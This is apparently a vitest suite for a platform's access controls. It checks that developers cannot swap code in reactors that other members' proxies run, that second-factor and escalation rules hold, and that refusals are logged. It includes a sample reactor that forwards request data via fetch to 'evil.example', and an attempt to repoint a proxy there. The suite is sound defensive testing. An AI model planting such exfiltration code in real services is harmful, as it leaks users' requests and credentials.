import { beforeEach, describe, expect, it } from "vitest";
import type { Role } from "../../../src/access/role.js";
import { newMember } from "../../support/member.js";
import { memberWithPasskey } from "../../support/passkeys.js";
import { restClient } from "../../support/rest.js";
import { newTenant, type TestTenant } from "../../support/tenant.js";
import { signedIn, type TestBrowser } from "../../support/test-browser.js";

const CODE = "module.exports = async ({ args }) => ({ raw: { body: args.body, headers: args.headers } });";
const SENDS_AWAY = "module.exports = async ({ args }) => { await fetch('https://evil.example', args); };";

let tenant: TestTenant;
beforeEach(async () => {
  tenant = await newTenant();
});

const weak = async (role: Role) => signedIn(tenant.id, await newMember(tenant, role));

async function made(by: TestBrowser, operation: string, body: object): Promise<string> {
  const { status, body: response } = await by.call(operation, body);
  expect(status, JSON.stringify(response)).toBe(200);
  return response.id;
}

const changed = (by: TestBrowser, id: string, code = SENDS_AWAY) =>
  by.call("ReactorService/UpdateReactor", { id, code, updateMask: "code" });

describe("a DEVELOPER whose reactor another member's proxy runs", () => {
  it.each(["requestReactorId", "responseReactorId"])(
    "changes it as %s no more, until the proxy is gone",
    async (use) => {
      const developer = await weak("DEVELOPER");
      const reactor = await made(developer, "ReactorService/CreateReactor", { name: "R", code: CODE });
      expect((await changed(developer, reactor, `${CODE}//`)).status).toBe(200);
      const { browser: admin } = await memberWithPasskey(tenant, "ADMIN");
      const reveals = { name: "A", type: "private", permissions: ["token:use"] };
      const application = await made(admin, "ApplicationService/CreateApplication", reveals);
      const proxy = await made(admin, "ProxyService/CreateProxy", {
        ...{ name: "P", destinationUrl: "https://example.com", application: { id: application }, [use]: reactor },
      });
      for (const refused of [
        await changed(developer, reactor),
        await developer.call("ReactorService/ReplaceReactor", { id: reactor, name: "R", code: SENDS_AWAY }),
      ]) {
        expect(refused.status).toBe(403);
        expect(refused.body.message).toContain("a reactor that a proxy of somebody else runs");
      }
      expect((await changed(admin, reactor)).status).toBe(200);
      expect((await admin.call("ProxyService/DeleteProxy", { id: proxy })).status).toBe(200);
      expect((await changed(developer, reactor)).status).toBe(200);
    },
  );

  it("still changes one that only the DEVELOPER's own proxies run", async () => {
    const developer = await weak("DEVELOPER");
    const reactor = await made(developer, "ReactorService/CreateReactor", { name: "R", code: CODE });
    const proxy = { name: "P", destinationUrl: "https://example.com", requestReactorId: reactor };
    await made(developer, "ProxyService/CreateProxy", proxy);
    expect((await changed(developer, reactor)).status).toBe(200);
  });
});

describe.each(["OWNER", "ADMIN"] as const)("%s without a second factor", (role) => {
  it("changes neither a proxy nor a reactor, whose callers send them values", async () => {
    const thief = role === "OWNER" ? await signedIn(tenant.id, "owner@example.com") : await weak(role);
    const reactor = await made(thief, "ReactorService/CreateReactor", { name: "R", code: CODE });
    const { body: proxy } = await tenant.manage("POST", "/proxies", {
      body: { name: "P", destination_url: "https://example.com" },
    });
    for (const refused of [
      await changed(thief, reactor),
      await thief.call("ProxyService/UpdateProxy", {
        ...{ id: proxy.id, destinationUrl: "https://evil.example", updateMask: "destinationUrl" },
      }),
    ]) {
      expect(refused).toMatchObject({ status: 403, body: { message: expect.stringContaining("second factor") } });
    }
    const renamed = { name: "Another name", updateMask: "name" };
    expect((await thief.call("ReactorService/UpdateReactor", { id: reactor, ...renamed })).status).toBe(200);
    expect((await thief.call("ProxyService/UpdateProxy", { id: proxy.id, ...renamed })).status).toBe(200);
  });
});

describe("a refusal deep in an operation", () => {
  it.each<[string, Role, object]>([
    ["ApplicationService/CreateApplication", "DEVELOPER", { name: "A", type: "private", permissions: ["token:use"] }],
    ["ApplicationService/CreateApplication", "ADMIN", { name: "A", type: "management", permissions: ["log:read"] }],
    ["TenantService/UpdateTenant", "ADMIN", { name: "T", settings: { reveal_to_people: "true" } }],
    ["PasskeyService/ListPasskeys", "AUDITOR", { waiting: true }],
  ])("leaves a row, of %s for the role %s", async (operation, role, body) => {
    const member = await weak(role);
    const { memberId, userId } = (await member.call("SignInService/WhoAmI")).body;
    expect((await member.call(operation, body)).status).toBe(403);
    const { body: log } = await tenant.manage("GET", `/logs?entity_type=member&entity_id=${memberId}&size=20`);
    const rows = log.data.filter(({ outcome }: { outcome?: string }) => outcome === "denied");
    expect(rows).toMatchObject([{ actor_id: userId, message: `Member refused: ${operation}` }]);
  });

  it("leaves a row, of a key", async () => {
    const definition = { name: "M", type: "management", permissions: ["application:create"] };
    const { body: weaker } = await tenant.manage("POST", "/applications", { body: definition });
    const asked = { ...definition, permissions: ["log:read"] };
    const refused = await restClient(tenant.url, weaker.key)("POST", "/applications", { body: asked });
    expect(refused.status).toBe(403);
    const { body: log } = await tenant.manage("GET", `/logs?entity_type=application&entity_id=${weaker.id}&size=20`);
    expect(log.data).toContainEqual(
      expect.objectContaining({
        message: "Application refused: ApplicationService/CreateApplication",
        outcome: "denied",
      }),
    );
  });
});

describe("power given to what a DEVELOPER's code acts as", () => {
  const weakApplication = { name: "W", type: "private", permissions: ["token:create"] };
  const revealing = { name: "S", type: "private", permissions: ["token:use"] };
  const strengthen = (by: TestBrowser, id: string) =>
    by.call("ApplicationService/UpdateApplication", { id, name: "W", permissions: ["token:use"], rules: [] });

  async function built() {
    const developer = await weak("DEVELOPER");
    const { browser: admin } = await memberWithPasskey(tenant, "ADMIN");
    const application = await made(admin, "ApplicationService/CreateApplication", weakApplication);
    const strong = await made(admin, "ApplicationService/CreateApplication", revealing);
    const reactor = await made(admin, "ReactorService/CreateReactor", {
      name: "R",
      code: CODE,
      application: { id: application },
    });
    return { developer, admin, application, strong, reactor };
  }
  const proxyOf = (developer: TestBrowser, fields: object) =>
    made(developer, "ProxyService/CreateProxy", { name: "P", destinationUrl: "https://example.com", ...fields });
  const rebind = (by: TestBrowser, id: string, application: string) =>
    by.call("ReactorService/UpdateReactor", { id, application: { id: application }, updateMask: "application" });

  it("is refused by name: as the application of a reactor that the DEVELOPER's proxy runs", async () => {
    const { developer, admin, application, strong, reactor } = await built();
    const proxy = await proxyOf(developer, { requestReactorId: reactor });
    for (const refused of [await strengthen(admin, application), await rebind(admin, reactor, strong)]) {
      expect(refused.body.message).toContain(`This gives token:use to the proxy ${proxy}`);
    }
    expect((await admin.call("ProxyService/DeleteProxy", { id: proxy })).status).toBe(200);
    expect((await rebind(admin, reactor, strong)).status).toBe(200);
    expect((await strengthen(admin, application)).status).toBe(200);
  });

  it("is refused by name: as the application of the DEVELOPER's proxy or reactor, also to a key", async () => {
    const { developer, admin, application } = await built();
    const proxy = await proxyOf(developer, { application: { id: application } });
    expect((await strengthen(admin, application)).body.message).toContain(`the proxy ${proxy}`);
    const own = { name: "O", code: CODE, application: { id: application } };
    const reactor = await made(developer, "ReactorService/CreateReactor", own);
    const body = { name: "W", permissions: ["token:use"] };
    const refused = await tenant.manage("PUT", `/applications/${application}`, { body });
    expect([refused.status, refused.body.detail]).toEqual([422, expect.stringContaining(`the reactor ${reactor}`)]);
    const renamed = { id: application, name: "N", permissions: ["token:create"], rules: [] };
    expect((await admin.call("ApplicationService/UpdateApplication", renamed)).status).toBe(200);
  });

  it("is refused by name where the author is no member any more, who still knows the proxy's key", async () => {
    const { developer, admin, application, strong, reactor } = await built();
    const proxy = await proxyOf(developer, { requestReactorId: reactor });
    const { memberId } = (await developer.call("SignInService/WhoAmI")).body;
    expect((await admin.call("MemberService/DeleteMember", { id: memberId })).status).toBe(200);
    for (const refused of [await strengthen(admin, application), await rebind(admin, reactor, strong)]) {
      expect(refused.body.message).toContain(`This gives more rights to the proxy ${proxy}, whose author is no longer`);
    }
    expect((await admin.call("ProxyService/DeleteProxy", { id: proxy })).status).toBe(200);
    expect((await rebind(admin, reactor, strong)).status).toBe(200);
  });

  it("goes to two reactors that exchange their applications at the same time, in whatever order", async () => {
    const { admin, application, strong, reactor } = await built();
    const fields = { name: "R2", code: CODE, application: { id: strong } };
    const other = await made(admin, "ReactorService/CreateReactor", fields);
    for (let round = 0; round < 8; round += 1) {
      const [first, second] = round % 2 === 0 ? [strong, application] : [application, strong];
      const exchanged = await Promise.all([rebind(admin, reactor, first), rebind(admin, other, second)]);
      expect(exchanged.map(({ status }) => status)).toEqual([200, 200]);
    }
  });

  it("reaches no proxy that is bound at the same time", async () => {
    const { developer, admin, strong, reactor } = await built();
    for (let round = 0; round < 8; round += 1) {
      const fields = { name: "P", destinationUrl: "https://example.com", requestReactorId: reactor };
      const [bound, rebound] = await Promise.all([
        developer.call("ProxyService/CreateProxy", fields),
        rebind(admin, reactor, strong),
      ]);
      expect([bound.status, rebound.status].filter((status) => status === 200)).toHaveLength(1);
      if (bound.status === 200) await admin.call("ProxyService/DeleteProxy", { id: bound.body.id });
      const weaker = await made(admin, "ApplicationService/CreateApplication", weakApplication);
      expect((await rebind(admin, reactor, weaker)).status).toBe(200);
    }
  });
});
